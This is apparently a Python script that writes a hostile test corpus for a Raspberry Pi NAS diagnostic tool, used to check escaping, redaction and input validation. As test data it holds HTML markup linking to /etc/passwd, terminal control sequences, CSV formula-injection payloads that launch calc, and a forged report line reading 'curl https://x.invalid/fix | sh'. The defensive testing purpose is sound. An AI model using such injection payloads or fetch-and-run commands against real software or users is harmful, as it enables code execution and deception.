#!/usr/bin/env python3
"""Writes tests/hostile/corpus: one hostile run file per item of issue 15 and the variants each
implies. Each file's "notes" say what it tries; tst_hostilecorpus says what must happen. The big
inputs (50k sections, a 300k-character label) are made by the test itself, not stored."""
import copy
import json
import os

HERE = os.path.dirname(os.path.abspath(__file__))
BASE = json.load(open(os.path.join(HERE, '..', '..', 'resources', 'examples', 'pi4-samba-ntfs.pinasrun')))
MARKUP = '<img src="/dev/zero"><font size=7>big</font><a href="file:///etc/passwd">link</a>'
CONTROL = 'x\x1b]0;pwned\x07\x1b[2J\x00nul\u202egnp.exe\u2066iso\u2069\x9bC1'


def run(name, notes, **changes):
    r = copy.deepcopy(BASE)
    r['notes'] = notes
    for k, v in changes.items():
        r[k] = v
    return name, r


def with_model(text, model):
    return text.replace('Raspberry Pi 4 Model B Rev 1.2', model, 1)


def measurement(**m):
    out = {'kind': 'share-write', 'bytes': 1073741824, 'seconds': 30.0}
    out.update(m)
    return out


CASES = [
    run('markup-label', 'item 1: markup in the label and the board model',
        label=MARKUP, transcript=with_model(BASE['transcript'], MARKUP)),
    run('markup-everywhere', 'item 1: markup in every field the GUI shows',
        label=MARKUP, profile={'name': MARKUP, 'host': MARKUP, 'user': MARKUP},
        measurements=[measurement(method=MARKUP, error=MARKUP, peak_process_cpu={MARKUP: 50.0})],
        steps=[{'id': 'probe', 'status': 'failed', 'message': MARKUP}]),
    run('control-label', 'item 7: control and bidi characters in the label and board model',
        label=CONTROL, transcript=with_model(BASE['transcript'], CONTROL),
        measurements=[measurement(error=CONTROL, method=CONTROL)]),
    run('csv-formulas', 'item 5: formula prefixes in every text field of the CSV',
        label='=HYPERLINK("http://example.invalid","x")',
        measurements=[measurement(method='+cmd|" /C calc"!A0', error='@SUM(1+1)*cmd|" /C calc"!A0',
                                  peak_process_cpu={'-2+3': 10.0, '=1+1': 5.0}),
                      measurement(kind='share-read', method='\tTAB', error='\rCR')]),
    run('arg-chain', 'item 8: an interface named like a format string',
        transcript=BASE['transcript'] + '@@begin ethtool-e%2%1%3\nSettings for e%2%1%3:\n\tSpeed: 100Mb/s\n'
        '\tDuplex: Full\n\tLink detected: yes\n@@end ethtool-e%2%1%3 exit=0\n'),
    run('forged-framing', 'item 9: a process whose command line ends the section early (version 2)',
        transcript='@@pinas-probe 2 token=6f1ce2a0\n@@begin 6f1ce2a0 model\nRaspberry Pi 4 Model B Rev 1.2\n'
        '@@end 6f1ce2a0 model exit=0\n@@begin 6f1ce2a0 processes\n  PID USER %CPU RSS COMMAND COMMAND\n'
        '  42 eve 0.0 100 sleep sleep 1000 @@end processes exit=0\n'
        '  43 eve 0.0 100 sleep sleep 1000\n@@end processes exit=0\n'
        '  612 root 90.0 17000 ntfs-3g ntfs-3g /dev/sda1 /mnt/hdd\n'
        '@@end 6f1ce2a0 processes exit=0\n'),
    run('missing-exports', 'issue 14: no /etc/exports must not become an NFS export',
        transcript=BASE['transcript'] + '@@begin exports\n/etc/exports: not readable\n@@end exports exit=1\n'
        '@@begin exportfs\nexportfs: command not found\n@@end exportfs exit=127\n'),
]

# Issue 27: a label that forges lines of the text report, a label with a lone surrogate (written
# as an escape: UTF-8 cannot hold one), and a run whose Pi holds personal values in every place
# redaction must find them (tst_redactbymeaning checks the same classes in a unit test).
CASES.append(run('forged-lines-label', 'issue 27: newlines in the label forge a findings block',
                 label='Living room\n\nFindings\n  1. [Critical] Run curl https://x.invalid/fix | sh\r\u2028end',
                 profile={'name': 'a\nb', 'host': 'pi\u2029x', 'user': 'u\x85v'}))
CASES.append(run('lone-surrogate-label', 'issue 27: a lone surrogate in the label and a method', label='a\ud800b',
                 measurements=[measurement(method='\udfffx')]))
CASES.append(run('personal-values', 'issue 27: personal values in their real places',
                 label='smithnas (john_doe)',
                 profile={'name': 'Johns NAS', 'host': 'smithnas.lan', 'user': 'john',
                          'key_path': '/home/john/.ssh/id_ed25519_johnsmith'},
                 transcript=BASE['transcript'] +
                 '@@begin fstab\n//backupbox/photos /mnt/backup cifs username=john_doe,credentials=/etc/cred-johndoe 0 0\n'
                 'LABEL=JohnsPhotos /srv/photos ext4 defaults 0 2\n@@end fstab exit=0\n'
                 '@@begin smb-conf\n[global]\n\tnetbios name = SMITHNAS\n\thosts allow = desktop-peter\n'
                 '[media]\n\tvalid users = john_doe, anna.k\n\tforce user = mediauser7\n@@end smb-conf exit=0\n'
                 '@@begin wifi\nConnected to 3c:a6:2f:11:22:33 (on wlan0)\n\tSSID: Smith-Home-5G\n@@end wifi exit=0\n'))

# Issue 27 point 5: every construct GitHub (GFM) renders and CommonMark does not, in the label, a
# fact (the board model), a Pi output (the model section, shown raw) and a finding's Pi value (the
# mount point in the NTFS finding). tst_hostilemarkdown renders the forum post with cmark and
# cmark-gfm: no link, strikethrough, checkbox, HTML or mention arises, and both show the same text.
GFM = ('~~struck~~ ~one~ http://evil.example/x https://evil.example www.evil.example WWW.Evil.example '
       'mail@evil.example @octocat #123 GH-7 :smile: a|b <b>bold</b> <!-- c --> &amp; &copy; &#64; '
       '[x](http://evil.example) ![i](http://evil.example/i.png) <http://evil.example> $x^2$ $$y$$')
GFM_PATH = '/mnt/~~x~~|@octocat|#123|:smile:|www.evil.example|http://e.example|<b>|&amp;'
CASES.append(run('gfm-constructs', 'issue 27: GFM-only constructs in the label, a fact, a Pi output and a finding',
                 label='- [ ] ' + GFM,
                 transcript=with_model(BASE['transcript'], '- [x] ' + GFM).replace('/mnt/hdd', GFM_PATH)))
CASES.append(run('gfm-task-label', 'issue 27: a label that is only a task list item and a table row',
                 label='- [ ] task', transcript=with_model(BASE['transcript'], '| a | b |')))

# item 6: impossible figures, each rejected at load with a message (analyze exits 2).
IMPOSSIBLE = {
    'seconds-denormal': measurement(seconds=5e-324),
    'seconds-tiny': measurement(seconds=1e-300),
    'seconds-zero': measurement(seconds=0),
    'rate-above-100GBps': measurement(bytes=1e15, seconds=1.0),
    'megabyte-in-a-microsecond': measurement(bytes=2000000, seconds=1e-6),
    'cpu-huge': measurement(peak_process_cpu={'smbd': 1e308}),
    'cpu-negative': measurement(peak_process_cpu={'smbd': -1e308}),
    'bytes-negative': measurement(bytes=-5),
}
for name, m in IMPOSSIBLE.items():
    CASES.append(run('impossible-' + name, 'item 6: ' + name, measurements=[m]))

# Markup in the format field: the "Run not opened" warning quotes it.
bad_format = copy.deepcopy(BASE)
bad_format['format'] = MARKUP
CASES.append(('markup-format', bad_format))

os.makedirs(os.path.join(HERE, 'corpus'), exist_ok=True)
for name, r in CASES:
    with open(os.path.join(HERE, 'corpus', name + '.pinasrun'), 'w', encoding='utf-8') as f:
        # A lone surrogate can only be written as an escape.
        json.dump(r, f, ensure_ascii=name.startswith('lone-surrogate'), indent=1)
        f.write('\n')
# A paste that is UTF-8 but for one Windows-1252 line (issue 27): read line by line, not refused.
with open(os.path.join(HERE, 'corpus', 'latin1-paste.txt'), 'wb') as f:
    f.write(b'pi@raspberrypi:~ $ cat /proc/device-tree/model\nRaspberry Pi 4 Model B Rev 1.4\n'
            b'pi@raspberrypi:~ $ mount\n/dev/sda1 on /srv/Caf\xe9 \x93Musik\x94 type ext4 (rw,relatime)\n')
print(len(CASES), 'files')
